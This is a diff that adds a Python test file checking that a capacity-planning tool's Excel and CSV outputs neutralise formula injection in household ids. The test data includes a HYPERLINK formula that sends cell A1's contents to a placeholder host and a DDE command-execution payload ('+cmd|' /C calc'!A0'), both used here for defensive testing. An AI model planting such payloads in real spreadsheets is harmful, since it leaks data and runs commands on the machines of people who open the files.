@@ -1,0 +1,74 @@
+"""No formula from data: text cells in workbooks are text, CSV outputs neutralise formula starts,
+and our readers give the ids back exactly."""
+
+from __future__ import annotations
+
+import datetime as dt
+import io
+
+import openpyxl
+import pandas as pd
+from hypothesis import given
+from hypothesis import strategies as st
+
+from capacity.io.cells import FORMULA_STARTS, csv_text, neutralise, read_output_csv, restore
+from capacity.reports.documents import build_review
+from capacity.solver.output import write_outputs
+from capacity.solver.solve import place
+from tests import helpers
+
+FORMULA = '=HYPERLINK("http://x.invalid/?"&A1,"klik")'
+
+
+@given(st.text())
+def test_neutralise_round_trips_and_never_starts_a_formula(value):
+    out = neutralise(value)
+    assert restore(out) == value
+    assert not out.startswith(FORMULA_STARTS)
+
+
+# Line breaks inside ids are left out: pandas' reader splits a quoted lone CR as a line end.
+ID_TEXT = st.text(alphabet=st.characters(blacklist_categories=["Cs"], blacklist_characters="\r\n"))
+
+
+@given(ids=st.lists(ID_TEXT, min_size=1))
+def test_csv_text_read_back_exactly(ids, tmp_path_factory):
+    frame = pd.DataFrame({"household_id": ids, "persons": range(len(ids))})
+    path = tmp_path_factory.mktemp("cells") / "x.csv"
+    path.write_text(csv_text(frame), encoding="utf-8")
+    back = read_output_csv(path, dtype={"household_id": str}, keep_default_na=False)
+    assert back["household_id"].tolist() == ids
+    assert back["persons"].tolist() == list(range(len(ids)))
+    for line in path.read_text(encoding="utf-8").splitlines()[1:]:
+        assert not line.lstrip('"').startswith(("=", "+", "@"))
+
+
+def _hostile_ids():
+    """``tiny_registry`` with a resident and an arrival whose ids are formulas (one with a
+    control character Excel cannot store)."""
+    reg = helpers.tiny_registry()
+    ids = {"R1": FORMULA, "A1": "+cmd|' /C calc'!A0\x07"}
+    households = reg.households.assign(id=reg.households["id"].replace(ids))
+    occupancy = reg.occupancy.assign(household_id=reg.occupancy["household_id"].replace(ids))
+    return reg.with_layers(households=households, occupancy=occupancy), ids
+
+
+def test_review_workbook_has_no_formula_and_keeps_the_text():
+    reg, ids = _hostile_ids()
+    review = build_review(reg, dt.date(2026, 12, 1))
+    book = openpyxl.load_workbook(io.BytesIO(review.xlsx))
+    cells = [c for sheet in book.worksheets for row in sheet.iter_rows() for c in row]
+    assert not [c.coordinate for c in cells if c.data_type == "f"]
+    texts = {c.value for c in cells if isinstance(c.value, str)}
+    assert any(FORMULA in t for t in texts)
+    assert any("+cmd|' /C calc'!A0\ufffd" in t for t in texts)
+
+
+def test_placements_csv_neutralised_and_read_back(tmp_path):
+    reg, ids = _hostile_ids()
+    result = place(reg, helpers.PLACE_DAY, time_limit=5)
+    write_outputs(result, tmp_path / "plan")
+    text = (tmp_path / "plan" / "placements.csv").read_text(encoding="utf-8")
+    assert "'+cmd" in text and "\n+cmd" not in text
+    back = read_output_csv(tmp_path / "plan" / "placements.csv", dtype=str)
+    assert ids["A1"] in set(back["household_id"])
